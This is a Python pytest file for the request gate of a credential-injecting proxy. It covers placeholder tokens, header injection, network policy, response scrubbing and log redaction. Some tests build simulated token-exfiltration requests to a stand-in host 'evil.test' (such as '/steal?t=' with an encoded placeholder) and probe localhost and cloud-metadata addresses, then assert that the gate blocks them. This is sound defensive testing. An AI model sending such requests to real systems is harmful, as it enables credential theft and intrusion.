"""The gate's decisions on real kernels (SQLite store, local sealer, the broker plugin): grant
resolution, injection, placeholders, policy, transformers, logs. Sockets are covered by the
engine and end-to-end tests; here each decision is checked with its exact effect."""

from __future__ import annotations

import asyncio
import base64
from datetime import timedelta

import pytest

from valetkey.kernel import load
from valetkey.policy import parse_policy
from valetkey_hookspecs import (
    AuthSpec,
    AuthType,
    Connector,
    Injection,
    InvalidInput,
    NotFound,
    Secret,
    hookimpl,
    utcnow,
)
from valetkey_proxy.config import ProxyConfig
from valetkey_proxy.exchange import Outcome, Request, Response
from valetkey_proxy.gate import Gate
from valetkey_proxy.runs import Registry, RunSpec, TransformerSpec
from valetkey_proxy.transformers import OAuthEndpointWorkaround, ResponseScrub

pytestmark = pytest.mark.anyio


class Provider:
    """Issues access-N tokens; counts refreshes (the OAuth side is tested against a real server
    in the broker's end-to-end tests)."""

    name = "oauth2"
    auth_types = (AuthType.OAUTH2,)

    def __init__(self):
        self.calls = 0

    async def acquire(self, request):
        raise NotImplementedError

    async def refresh(self, connector, secret):
        self.calls += 1
        return Secret(
            access_token=f"acme-access-{self.calls}-zzzzzzzz",
            refresh_token=secret.refresh_token,
            expires_at=utcnow() + timedelta(hours=1),
        )


class Catalog:
    def __init__(self):
        self.provider = Provider()

    @hookimpl
    def valetkey_register_connectors(self, register):
        register(
            Connector(
                slug="acme",
                name="Acme",
                auth=AuthSpec(
                    type=AuthType.OAUTH2,
                    authorize_url="https://acme.test/auth",
                    token_url="https://acme.test/token",
                ),
                injection=Injection(
                    hosts=("api.acme.test", "*.acme.test:8443"),
                    env_var="ACME_TOKEN",
                    remove_headers=("X-Agent-Key",),
                    add_headers={"X-Acme-Features": "valetkey"},
                ),
            )
        )
        register(
            Connector(
                slug="keyco",
                name="KeyCo",
                auth=AuthSpec(type=AuthType.API_KEY),
                injection=Injection(
                    hosts=("api.keyco.test",),
                    header="X-Api-Key",
                    format="{token}",
                    add_headers={"X-Api-Secret": "{secret}"},
                    env_var="KEYCO_KEY",
                ),
            )
        )
        register(Connector(slug="bare", name="Bare", auth=AuthSpec(type=AuthType.API_KEY)))

    @hookimpl
    def valetkey_register_credential_providers(self, register):
        register("oauth2", lambda ctx: self.provider)

    @hookimpl
    def valetkey_register_response_transformers(self, register):
        register("response-scrub", lambda ctx: ResponseScrub())
        register("oauth-endpoint-workaround", lambda ctx: OAuthEndpointWorkaround())


class Log:
    def __init__(self):
        self.entries = []

    def record(self, run_id, entry):
        self.entries.append((run_id, entry))


@pytest.fixture
def catalog():
    return Catalog()


@pytest.fixture
async def kernel(tmp_path, monkeypatch, catalog):
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    doc = {
        "autoload": False,
        "enable": ["store-sqlite", "secrets-keyring", "sealer-local", "broker", "catalog"],
    }
    k = load(policy=parse_policy(doc), home=tmp_path / "home", extra_plugins={"catalog": catalog})
    async with k:
        yield k


@pytest.fixture
def log():
    return Log()


@pytest.fixture
def gate(kernel, log):
    return Gate(kernel, Registry(), ProxyConfig(upstream_map={"api.acme.test": "127.0.0.1:9"}), log)


async def connect(kernel, slug, owner="ann", **secret):
    conn = await kernel.broker.create_connection(owner, slug)
    await kernel.broker.store_secret(owner, conn.id, Secret(**secret))
    return conn


async def ready(gate, spec, token=None):
    """Prepare and register a run (what POST /v1/runs does)."""
    run = await gate.prepare(spec, token)
    gate._registry.add(run)
    return run


def req(host, target="/v1/things", port=443, headers=(), body=b"", method="GET"):
    return Request(method, "https", host, port, target, list(headers), body)


async def acme(kernel, token="acme-real-token-1234"):
    return await connect(
        kernel,
        "acme",
        access_token=token,
        refresh_token="acme-refresh-1234",
        expires_at=utcnow() + timedelta(hours=1),
    )


# ------------------------------------------------------------------ prepare


async def test_prepare_resolves_slugs_and_ids_and_derives_placeholders(kernel, gate):
    a = await acme(kernel)
    k = await connect(kernel, "keyco", api_key="keyco-real-key-5678", api_secret="keyco-sec-90")
    run = await ready(gate, RunSpec(owner="ann", grants=["acme", k.id]))
    assert len(run.token) == 64 and run.run_id.startswith("run_")
    env = gate.run_env(run)
    assert set(env) == {"ACME_TOKEN", "KEYCO_KEY"}
    assert all(v.startswith("vkph_") for v in env.values())
    assert "acme-real-token-1234" not in str(env) and "keyco-real-key" not in str(env)
    # a restored run (same token) gets the same placeholders
    again = await ready(gate, RunSpec(owner="ann", grants=["acme", k.id]), run.token)
    assert gate.run_env(again) == env
    assert [b.connection_id for b in run.resolved.bindings] == [a.id, k.id]


@pytest.mark.parametrize(
    ("spec", "error", "message"),
    [
        (RunSpec(owner=""), InvalidInput, "a run needs an owner"),
        (RunSpec(owner="ann", network_policy="open"), InvalidInput, "expected one of permissive"),
        (RunSpec(owner="ann", substitution="body"), InvalidInput, "expected one of headers"),
        (RunSpec(owner="ann", grants=["nope"]), NotFound, "nope"),
        (RunSpec(owner="ann", grants=["keyco"]), NotFound, "ann has no keyco connection"),
        (RunSpec(owner="ann", grants=["conn_missing"]), NotFound, "conn_missing"),
        (RunSpec(owner="ann", grants=["acme", "acme"]), InvalidInput, "named twice"),
        (RunSpec(owner="ann", network_allow=["a.*.b"]), InvalidInput, "leading"),
        (
            RunSpec(owner="ann", response_transformers=[TransformerSpec("x.test", "zip")]),
            NotFound,
            "no response transformer 'zip'",
        ),
    ],
)
async def test_prepare_refuses_bad_specs_with_a_clear_message(kernel, gate, spec, error, message):
    await acme(kernel)
    with pytest.raises(error, match=message):
        await gate.prepare(spec)


async def test_prepare_refuses_a_bad_token_and_foreign_or_unusable_grants(kernel, gate):
    a = await acme(kernel)
    with pytest.raises(InvalidInput, match="64 lower-case hex"):
        await gate.prepare(RunSpec(owner="ann"), "short")
    with pytest.raises(NotFound):  # bob cannot grant ann's connection
        await gate.prepare(RunSpec(owner="bob", grants=[a.id]))
    bare = await connect(kernel, "bare", api_key="bare-key-12345678")
    with pytest.raises(InvalidInput, match="connector 'bare' has no injection rules"):
        await gate.prepare(RunSpec(owner="ann", grants=[bare.id]))
    await acme(kernel, token="acme-second-token-99")
    with pytest.raises(InvalidInput, match="several acme connections"):
        await gate.prepare(RunSpec(owner="ann", grants=["acme"]))
    await kernel.broker.revoke("ann", a.id)
    with pytest.raises(Exception, match="revoked"):
        await gate.prepare(RunSpec(owner="ann", grants=[a.id]))


# ------------------------------------------------------------------ injection


async def test_injects_on_bound_hosts_only_with_headers_removed_and_merged(kernel, gate):
    await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    r = req(
        "api.acme.test",
        headers=[
            ("Authorization", "Bearer " + gate.run_env(run)["ACME_TOKEN"]),
            ("X-Agent-Key", "agent-own"),
            ("X-Acme-Features", "beta"),
            ("Accept", "application/json"),
        ],
    )
    verdict = await gate.on_request(run, r)
    assert verdict.block is None and verdict.connect_to == ("127.0.0.1", 9)
    assert r.header("authorization") == "Bearer acme-real-token-1234"
    assert r.header("x-agent-key") is None
    assert r.header("x-acme-features") == "beta, valetkey"
    assert r.header("accept") == "application/json"
    # *.acme.test:8443 — port enforced
    on_port = req("cdn.acme.test", port=8443)
    await gate.on_request(run, on_port)
    assert on_port.header("authorization") == "Bearer acme-real-token-1234"
    other_port = req("cdn.acme.test", port=443)
    await gate.on_request(run, other_port)
    assert other_port.header("authorization") is None
    elsewhere = req("example.test", headers=[("Accept", "*/*")])
    verdict = await gate.on_request(run, elsewhere)
    assert elsewhere.headers == [("Accept", "*/*")] and verdict.block is None


async def test_the_grant_is_audited_once_and_each_request_goes_to_the_request_log(
    kernel, gate, log
):
    a = await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"], run_id="agent-1"))

    async def vends():
        return [
            e
            for e in await kernel.store.audit.list(limit=100)
            if e.action == "vend" and e.connection_id == a.id
        ]

    assert [e.actor for e in await vends()] == ["proxy:agent-1"]
    for _ in range(3):
        r = req("api.acme.test")
        verdict = await gate.on_request(run, r)
        gate.on_complete(run, r, verdict, Outcome(200, 0, 0, 0.5))
    assert len(await vends()) == 1
    assert [e["rule"] for _, e in log.entries] == ["inject:acme"] * 3


async def test_api_key_and_secret_placed_by_the_connector_format(kernel, gate):
    await connect(kernel, "keyco", api_key="keyco-real-key-5678", api_secret="keyco-sec-90")
    run = await ready(gate, RunSpec(owner="ann", grants=["keyco"], scrub=True))
    r = req("api.keyco.test")
    verdict = await gate.on_request(run, r)
    assert r.header("x-api-key") == "keyco-real-key-5678"
    assert r.header("x-api-secret") == "keyco-sec-90"
    # both values go back to the placeholder when echoed
    echo = Response(200, [("Content-Type", "text/plain")], b"keyco-real-key-5678 keyco-sec-90")
    out = gate.on_response(run, r, echo, verdict)
    ph = gate.run_env(run)["KEYCO_KEY"]
    assert out.body == f"{ph} {ph}".encode()


async def test_a_refreshed_token_is_used_on_the_next_request(kernel, gate, catalog):
    a = await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    await kernel.broker.refresh("ann", a.id)
    r = req("api.acme.test")
    await gate.on_request(run, r)
    assert r.header("authorization") == "Bearer acme-access-1-zzzzzzzz"
    assert catalog.provider.calls == 1


async def test_a_regranted_connection_is_used_at_once(kernel, gate):
    a = await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    await kernel.broker.delete("ann", a.id)
    await acme(kernel, token="acme-brand-new-token")
    r = req("api.acme.test")
    await gate.on_request(run, r)
    assert r.header("authorization") == "Bearer acme-brand-new-token"


async def test_a_revoked_grant_answers_502_saying_why_and_sends_nothing(kernel, gate):
    a = await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=[a.id]))
    await kernel.broker.revoke("ann", a.id)
    r = req("api.acme.test")
    verdict = await gate.on_request(run, r)
    assert verdict.respond is not None and verdict.respond.status == 502
    assert b"revoked" in verdict.respond.body
    assert ("X-Valetkey-Error", "credential") in verdict.respond.headers


# ------------------------------------------------------------------ placeholders


async def test_by_default_placeholders_are_swapped_in_headers_only(kernel, gate):
    await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    ph = gate.run_env(run)["ACME_TOKEN"]
    r = req("api.acme.test", headers=[("X-Token", ph)])
    assert (await gate.on_request(run, r)).block is None
    assert r.header("x-token") == "acme-real-token-1234"
    # a body, path or query placeholder could be stored or echoed by the API itself
    for where, r in (
        ("body", req("api.acme.test", body=f'{{"note": "{ph}"}}'.encode(), method="POST")),
        ("query", req("api.acme.test", target=f"/v1/search?q={ph}")),
        ("path", req("api.acme.test", target=f"/v1/{ph}/x")),
    ):
        before = (r.target, r.body)
        verdict = await gate.on_request(run, r)
        assert verdict.block == "placeholder:acme"
        assert f"carries it in its {where}" in verdict.block_reason
        assert (r.target, r.body) == before


async def test_placeholder_sent_over_plain_http_or_injection_over_http_is_blocked(kernel, gate):
    await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    ph = gate.run_env(run)["ACME_TOKEN"]
    plain = Request("GET", "http", "cdn.acme.test", 8443, "/", [("X-Token", ph)], b"")
    verdict = await gate.on_request(run, plain)
    assert verdict.block == "placeholder:acme" and "over HTTPS only" in verdict.block_reason
    bare = Request("GET", "http", "cdn.acme.test", 8443, "/", [], b"")
    verdict = await gate.on_request(run, bare)
    assert verdict.block == "insecure:acme" and bare.header("authorization") is None
    # a host mapped by upstream_map (tests, local stand-ins) is the operator's choice
    mapped = Request("GET", "http", "api.acme.test", 80, "/", [], b"")
    assert (await gate.on_request(run, mapped)).block is None
    assert mapped.header("authorization") == "Bearer acme-real-token-1234"


async def test_a_removed_or_replaced_run_is_refused_on_open_connections(kernel, gate):
    await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    gate._registry.remove(run.token)
    r = req("api.acme.test")
    verdict = await gate.on_request(run, r)
    assert verdict.block == "run-ended" and r.header("authorization") is None
    stricter = await ready(gate, RunSpec(owner="ann", network_policy="strict"), run.token)
    assert (await gate.on_request(run, req("api.acme.test"))).block == "run-ended"
    assert (await gate.on_request(stricter, req("api.acme.test"))).block == "network-policy"


async def test_permissive_policy_still_keeps_this_machine_and_link_local_out(kernel, gate):
    run = await ready(gate, RunSpec(owner="ann"))
    for host in ("127.0.0.1", "localhost", "db.localhost", "169.254.169.254", "::1", "0.0.0.0"):
        verdict = await gate.on_request(run, req(host, port=80))
        assert verdict.block == "network-policy", host
        assert "allow it with --allow" in verdict.block_reason
    assert (await gate.on_request(run, req("10.0.0.5"))).block is None
    allowed = await ready(gate, RunSpec(owner="ann", network_allow=["127.0.0.1:8080"]))
    assert (await gate.on_request(allowed, req("127.0.0.1", port=8080))).block is None
    assert (await gate.on_request(allowed, req("127.0.0.1", port=9090))).block == "network-policy"


async def test_encoded_or_upper_cased_placeholders_sent_elsewhere_are_caught(kernel, gate):
    await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    ph = gate.run_env(run)["ACME_TOKEN"]
    for target in (f"/x?t={ph.upper()}", "/x?t=" + ph.replace("_", "%5F")):
        verdict = await gate.on_request(run, req("evil.test", target=target))
        assert verdict.block == "placeholder:acme", target


async def test_placeholder_is_substituted_anywhere_only_when_the_run_asks(kernel, gate):
    await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"], substitution="anywhere"))
    ph = gate.run_env(run)["ACME_TOKEN"]
    r = req(
        "api.acme.test",
        target=f"/v1/search?token={ph}",
        headers=[("X-Token", ph)],
        body=f'{{"token": "{ph}"}}'.encode(),
        method="POST",
    )
    verdict = await gate.on_request(run, r)
    assert verdict.block is None
    assert r.target == "/v1/search?token=acme-real-token-1234"
    assert r.header("x-token") == "acme-real-token-1234"
    assert r.body == b'{"token": "acme-real-token-1234"}'
    assert verdict.context.rule == "substitute:acme"
    assert verdict.context.logged_target == f"/v1/search?token={ph}"


@pytest.mark.parametrize("where", ["target", "header", "body"])
async def test_placeholder_sent_elsewhere_is_blocked_and_audited(kernel, gate, log, where):
    a = await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    ph = gate.run_env(run)["ACME_TOKEN"]
    r = req(
        "evil.test",
        target=f"/steal?t={ph}" if where == "target" else "/steal",
        headers=[("X-Token", ph)] if where == "header" else [],
        body=ph.encode() if where == "body" else b"",
    )
    before = (r.target, list(r.headers), r.body)
    verdict = await gate.on_request(run, r)
    assert verdict.block == "placeholder:acme"
    assert "api.acme.test" in verdict.block_reason and "evil.test" in verdict.block_reason
    assert (r.target, r.headers, r.body) == before  # nothing substituted
    events = [
        e
        for e in await kernel.store.audit.list(limit=50)
        if e.action == "proxy.placeholder_blocked"
    ]
    assert len(events) == 1 and events[0].connection_id == a.id
    assert events[0].detail["host"] == "evil.test"
    gate.on_complete(run, r, verdict, Outcome(407, 0, 0, 0.1))
    assert log.entries[-1][1]["rule"] == "blocked:placeholder:acme"


async def test_another_grants_placeholder_on_a_bound_host_is_blocked(kernel, gate):
    await acme(kernel)
    await connect(kernel, "keyco", api_key="keyco-real-key-5678")
    run = await ready(gate, RunSpec(owner="ann", grants=["acme", "keyco"]))
    r = req("api.acme.test", headers=[("X-Other", gate.run_env(run)["KEYCO_KEY"])])
    verdict = await gate.on_request(run, r)
    assert verdict.block == "placeholder:keyco"


# ------------------------------------------------------------------ policy


async def test_strict_policy_allows_listed_and_granted_hosts_only(kernel, gate):
    await acme(kernel)
    run = await ready(
        gate,
        RunSpec(
            owner="ann", grants=["acme"], network_policy="strict", network_allow=["*.pypi.test"]
        ),
    )
    assert (await gate.on_request(run, req("files.pypi.test"))).block is None
    assert (await gate.on_request(run, req("api.acme.test"))).block is None
    blocked = await gate.on_request(run, req("pypi.test"))
    assert blocked.block == "network-policy" and "pypi.test:443" in blocked.block_reason
    assert gate.on_connect(run, "evil.test", 443).block == "network-policy"
    assert gate.on_connect(run, "files.pypi.test", 443).block is None
    permissive = await ready(gate, RunSpec(owner="ann"))
    assert gate.on_connect(permissive, "evil.test", 443).block is None


# ------------------------------------------------------------------ auth, transformers, log


async def test_authenticate_accepts_only_registered_tokens_in_basic_form(kernel, gate):
    registry = gate._registry
    run = await gate.prepare(RunSpec(owner="ann"))
    good = "Basic " + base64.b64encode(f"valetkey:{run.token}".encode()).decode()
    assert gate.authenticate(good) is None  # prepared is not registered
    registry.add(run)
    assert gate.authenticate(good) is run
    for bad in (
        None,
        "",
        "Bearer " + run.token,
        "Basic " + base64.b64encode(f"other:{run.token}".encode()).decode(),
        "Basic " + base64.b64encode(b"valetkey:" + b"0" * 64).decode(),
        "Basic !!!",
    ):
        assert gate.authenticate(bad) is None
    registry.remove(run.token)
    assert gate.authenticate(good) is None


async def test_response_scrub_puts_placeholders_back_and_logs_redact(kernel, gate, log):
    await acme(kernel)
    run = await ready(
        gate,
        RunSpec(
            owner="ann",
            grants=["acme"],
            response_transformers=[TransformerSpec("api.acme.test", "response-scrub")],
        ),
    )
    ph = gate.run_env(run)["ACME_TOKEN"]
    r = req("api.acme.test", target="/echo")
    verdict = await gate.on_request(run, r)
    assert verdict.buffer_response == 512 * 1024
    assert verdict.buffer_required  # never streamed past the scrubber, never encoded
    upstream = Response(
        200,
        [("Content-Type", "application/json"), ("X-Echo", "acme-real-token-1234")],
        b'{"auth": "Bearer acme-real-token-1234"}',
    )
    out = gate.on_response(run, r, upstream, verdict)
    assert out.body == f'{{"auth": "Bearer {ph}"}}'.encode()
    assert ("X-Echo", ph) in out.headers
    gate.on_complete(run, r, verdict, Outcome(200, 0, len(out.body), 1.5))
    run_id, entry = log.entries[-1]
    assert run_id == run.run_id
    assert entry["injected"] == {"Authorization": "[REDACTED]"}  # X-Acme-Features holds no secret
    assert entry["rule"] == "inject:acme" and entry["status"] == 200
    assert "acme-real-token" not in repr(log.entries)


async def test_oauth_endpoint_workaround_only_touches_oauth_401_403(kernel, gate):
    run = await ready(
        gate,
        RunSpec(
            owner="ann",
            response_transformers=[TransformerSpec("*.acme.test", "oauth-endpoint-workaround")],
        ),
    )
    r = req("console.acme.test", target="/api/oauth/profile")
    verdict = await gate.on_request(run, r)
    out = gate.on_response(
        run, r, Response(403, [("Content-Type", "text/plain")], b"scope"), verdict
    )
    assert (out.status, out.body) == (200, b"{}")
    assert ("X-Valetkey-Transformed", "oauth-endpoint-workaround") in out.headers
    other = req("console.acme.test", target="/api/things")
    verdict = await gate.on_request(run, other)
    kept = Response(403, [], b"no")
    assert gate.on_response(run, other, kept, verdict).status == 403


async def test_concurrent_requests_share_one_refresh(kernel, gate, catalog):
    a = await acme(kernel)
    run = await ready(gate, RunSpec(owner="ann", grants=["acme"]))
    # the credential becomes due after the run was set up
    await kernel.broker.store_secret(
        "ann",
        a.id,
        Secret(
            access_token="acme-old-token-1234",
            refresh_token="acme-refresh-1234",
            expires_at=utcnow() + timedelta(seconds=5),
        ),
    )
    assert catalog.provider.calls == 0
    requests = [req("api.acme.test") for _ in range(20)]
    await asyncio.gather(*(gate.on_request(run, r) for r in requests))
    assert catalog.provider.calls == 1
    assert {r.header("authorization") for r in requests} == {"Bearer acme-access-1-zzzzzzzz"}
